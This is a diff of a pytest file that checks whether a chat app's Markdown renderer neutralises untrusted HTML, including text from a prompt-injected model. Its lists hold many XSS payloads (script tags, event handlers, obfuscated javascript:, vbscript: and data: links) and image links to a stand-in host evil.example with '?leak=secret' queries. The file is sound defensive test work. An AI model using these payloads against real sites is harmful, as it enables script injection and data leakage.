@@ -1,10 +1,69 @@
-"""Markdown and sidebar markup: untrusted text never becomes live HTML."""
+"""Markdown and sidebar markup: untrusted text never becomes live HTML.
+
+The hostile inputs below are what a prompt-injected model or a pasted message may write. The
+rendered HTML is parsed back and checked structurally: which elements, which attributes, and
+which scheme a browser would see in each URL after its own normalisation.
+"""
 
 from __future__ import annotations
+
+import re
+import time
+from html.parser import HTMLParser
+
+import pytest
 
 from app.core.conversations import Conversation
 from app.core.markdown import render_markdown
 from app.ui.sidebar import sidebar_markup
+
+# What rendered Markdown may contain; anything else means raw HTML got through.
+MARKDOWN_TAGS = {
+    "p", "a", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br",
+    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "s",
+    "img", "span",
+}  # fmt: skip
+LINK_SCHEMES = {"http", "https", "mailto"}
+
+
+class Elements(HTMLParser):
+    """Every start tag of a fragment with its attributes (values entity-decoded)."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[tuple[str, dict[str, str]]] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, {name: value or "" for name, value in attrs}))
+
+    def tags(self, tag: str) -> list[dict[str, str]]:
+        return [attrs for name, attrs in self.found if name == tag]
+
+
+C0_AND_SPACE = "".join(map(chr, range(0x21)))
+
+
+def browser_scheme(url: str) -> str | None:
+    """The scheme a browser reads from an attribute value (WHATWG URL parsing: leading and
+    trailing C0 controls and spaces stripped, tabs and newlines removed anywhere)."""
+    url = re.sub(r"[\t\n\r]", "", url.strip(C0_AND_SPACE))
+    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", url)
+    return match.group(1).lower() if match else None
+
+
+def assert_inert(html: str) -> Elements:
+    """No element outside Markdown's, no handler or style attribute, no dangerous URL."""
+    elements = Elements(html)
+    for tag, attrs in elements.found:
+        assert tag in MARKDOWN_TAGS, f"<{tag}> in {html!r}"
+        assert not [a for a in attrs if a.startswith("on") or a == "style"], (tag, attrs)
+        if tag == "a" and "href" in attrs:
+            assert browser_scheme(attrs["href"]) in LINK_SCHEMES | {None}, attrs
+        if tag == "img":
+            assert attrs["src"].startswith("data:image/"), attrs
+    return elements
 
 
 def test_markdown_renders_emphasis_lists_and_code_blocks() -> None:
@@ -40,7 +99,7 @@ def test_sidebar_markup_escapes_titles_and_ids_and_marks_the_open_chat() -> None
 
 def test_the_line_under_a_reply_names_its_model_placement_and_speed() -> None:
     from app.core.conversations import Message
-    from app.ui.view import describe_reply
+    from app.ui.format import describe_reply
 
     meta = {
         "model": "tinylm/a",
@@ -55,3 +114,165 @@ def test_the_line_under_a_reply_names_its_model_placement_and_speed() -> None:
     assert line == "Tiny A · q8 on wasm · 12 tokens · 150.0 tok/s · 1.23 s"
     streaming = Message("m", "c", "assistant", "hi", 1, "streaming", {"model": "x/y"})
     assert describe_reply(streaming, {}) == "x/y"
+
+
+RAW_HTML = [
+    "<script>window.__pwned = 1</script>",
+    "<img src=x onerror=window.__pwned=1>",
+    '<a href="javascript:window.__pwned=1">click</a>',
+    "<svg onload=window.__pwned=1><circle r=9 /></svg>",
+    "<svg><script>window.__pwned=1</script></svg>",
+    '<iframe src="javascript:window.__pwned=1"></iframe>',
+    '<object data="data:text/html,<script>window.__pwned=1</script>"></object>',
+    '<div style="position:fixed;inset:0" onclick="window.__pwned=1">x</div>',
+    "<style>body { display: none }</style>",
+    '<form action="https://evil.example"><input name=q autofocus onfocus=alert(1)></form>',
+    "<math><mtext><script>window.__pwned=1</script></mtext></math>",
+    "**bold <b onmouseover=alert(1)>b</b>** and `code <script>`",
+    "<!-- comment --><![CDATA[x]]>",
+    "```html\n<script>window.__pwned=1</script>\n```",
+    '```"><img src=x onerror=alert(1)>\ncode\n```',
+]
+
+
+@pytest.mark.parametrize("text", RAW_HTML)
+def test_raw_html_of_any_kind_is_shown_as_text(text: str) -> None:
+    assert_inert(render_markdown(text))
+
+
+DANGEROUS_LINKS = [
+    "[x](javascript:window.__pwned=1)",
+    "[x](JaVaScRiPt:window.__pwned=1)",
+    "[x](jav&#x09;ascript:window.__pwned=1)",
+    "[x](jav&#9;ascript:window.__pwned=1)",
+    "[x](java&#x0A;script:window.__pwned=1)",
+    "[x](java&#13;script:window.__pwned=1)",
+    "[x](&#106;avascript:window.__pwned=1)",
+    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
+    "[x](javascript&colon;window.__pwned=1)",
+    "[x](%6Aavascript:window.__pwned=1)",
+    "[x](\\javascript:window.__pwned=1)",
+    "[x](&#0;javascript:window.__pwned=1)",
+    "[x](&#x01;javascript:window.__pwned=1)",
+    "[x](<javascript:window.__pwned=1>)",
+    "[x](< javascript:window.__pwned=1>)",
+    "[x](<java script:window.__pwned=1>)",
+    "[x](<java\nscript:window.__pwned=1>)",
+    "[x](java\tscript:window.__pwned=1)",
+    "[x](vbscript:msgbox(1))",
+    "[x](VBScript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](data:text/html,<script>window.__pwned=1</script>)",
+    "[x](DATA:text/html,x)",
+    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "[x](file:///etc/passwd)",
+    "<javascript:window.__pwned=1>",
+    "<JAVASCRIPT:window.__pwned=1>",
+    "<jav&#x09;ascript:alert(1)>",
+    "<vbscript:msgbox(1)>",
+    "<data:text/html,x>",
+    "[x][r]\n\n[r]: javascript:window.__pwned=1",
+    "[x][r]\n\n[r]: <jav&#x09;ascript:window.__pwned=1>",
+    '[x][r]\n\n[r]: JAVASCRIPT:alert(1) "title"',
+    "[x]\n\n[x]: vbscript:msgbox(1)",
+    "[x](javascript:alert(1) 'title')",
+    '[x](javascript:alert(1) "a" onclick="alert(1)")',
+]
+
+
+@pytest.mark.parametrize("text", DANGEROUS_LINKS)
+def test_a_dangerous_link_in_any_disguise_never_gets_an_href_with_a_scheme(text: str) -> None:
+    # Mostly no link at all; `&#0;javascript:...` (not an entity markdown-it decodes) stays a
+    # link to the relative path "&" with a fragment, which a browser reads without a scheme.
+    elements = assert_inert(render_markdown(text))
+    hrefs = [a["href"] for a in elements.tags("a") if "href" in a]
+    assert [browser_scheme(href) for href in hrefs] == [None] * len(hrefs), hrefs
+
+
+def test_safe_links_keep_their_href_and_open_without_an_opener() -> None:
+    text = "[a](https://example.org/x?q=1) [b](mailto:me@example.org) [c](/docs) <HTTP://e.x>"
+    anchors = assert_inert(render_markdown(text)).tags("a")
+    hrefs = [a["href"] for a in anchors]
+    assert hrefs == ["https://example.org/x?q=1", "mailto:me@example.org", "/docs", "HTTP://e.x"]
+    for anchor in anchors:
+        assert anchor["target"] == "_blank"
+        assert anchor["rel"] == "noopener noreferrer nofollow"
+
+
+REMOTE_IMAGES = [
+    ("![x](http://evil.example/p.png?leak=secret)", "http://evil.example/p.png?leak=secret"),
+    ('![x](https://evil.example/p.png "a title")', "https://evil.example/p.png"),
+    ("![x](HTTPS://EVIL.EXAMPLE/p.png)", "HTTPS://EVIL.EXAMPLE/p.png"),
+    ("![x](//evil.example/p.png)", "//evil.example/p.png"),
+    ("![x][pic]\n\n[pic]: http://evil.example/p.png?leak=1", "http://evil.example/p.png?leak=1"),
+    ("![x](<http://evil.example/a b.png>)", "http://evil.example/a%20b.png"),
+]
+
+
+@pytest.mark.parametrize(("text", "url"), REMOTE_IMAGES)
+def test_a_remote_image_is_a_link_to_it_never_an_img(text: str, url: str) -> None:
+    html = render_markdown(text)
+    elements = assert_inert(html)
+    assert elements.tags("img") == []
+    [anchor] = elements.tags("a")
+    assert anchor["href"] == url
+    assert anchor["rel"] == "noopener noreferrer nofollow" and anchor["target"] == "_blank"
+    assert "Image: x (" in html
+
+
+def test_a_remote_image_link_names_the_alt_text_and_the_host() -> None:
+    html = render_markdown("![a <b>cat</b> & *dog*](https://img.evil.example/c.png)")
+    assert "Image: a &lt;b&gt;cat&lt;/b&gt; &amp; dog (img.evil.example)</a>" in html
+
+
+def test_an_inline_data_image_stays_an_image_because_it_fetches_nothing() -> None:
+    html = render_markdown("![dot](data:image/png;base64,iVBORw0KGgo=)")
+    [img] = assert_inert(html).tags("img")
+    assert img == {"src": "data:image/png;base64,iVBORw0KGgo=", "alt": "dot"}
+
+
+def test_an_image_of_an_unsafe_kind_stays_text() -> None:
+    for text in ["![x](javascript:alert(1))", "![x](data:image/svg+xml;base64,PHN2Zz4=)"]:
+        elements = assert_inert(render_markdown(text))
+        assert elements.tags("img") == [] and elements.tags("a") == []
+
+
+def test_an_image_inside_a_link_is_text_inside_that_one_link() -> None:
+    html = render_markdown("[![x](http://evil.example/p.png?leak=1)](https://example.org)")
+    elements = assert_inert(html)
+    assert elements.tags("img") == []
+    assert [a["href"] for a in elements.tags("a")] == ["https://example.org"]
+    assert "Image: x (evil.example)" in html
+
+
+def test_table_alignment_is_a_class_not_an_inline_style() -> None:
+    html = render_markdown("| l | c | r | n |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |")
+    elements = assert_inert(html)
+    cells = elements.tags("th") + elements.tags("td")
+    assert [c.get("class") for c in cells] == [
+        "align-left",
+        "align-center",
+        "align-right",
+        None,
+    ] * 2
+    assert "style" not in html
+
+
+def test_a_megabyte_of_hostile_markdown_renders_in_reasonable_time() -> None:
+    chunk = (
+        "Some **prose** with [a link](https://example.org) and ![x](http://evil.example/p.png)\n"
+        "<img src=x onerror=alert(1)> [y](jav&#x09;ascript:alert(1)) <javascript:alert(1)>\n\n"
+        "| a | b |\n|--:|:-|\n| 1 | 2 |\n\n"
+    )
+    text = chunk * (1_000_000 // len(chunk) + 1)
+    started = time.perf_counter()
+    html = render_markdown(text)
+    assert time.perf_counter() - started < 30, "rendering 1 MB took too long"
+    elements = assert_inert(html)
+    assert elements.tags("img") == []
+    assert len(elements.tags("table")) == text.count("| a | b |")
+
+
+def test_unclosed_brackets_and_emphasis_render_without_a_crash() -> None:
+    for text in ["[" * 20_000, "![" * 10_000, "*a" * 20_000, "<" * 20_000, "`" * 20_000]:
+        assert_inert(render_markdown(text))
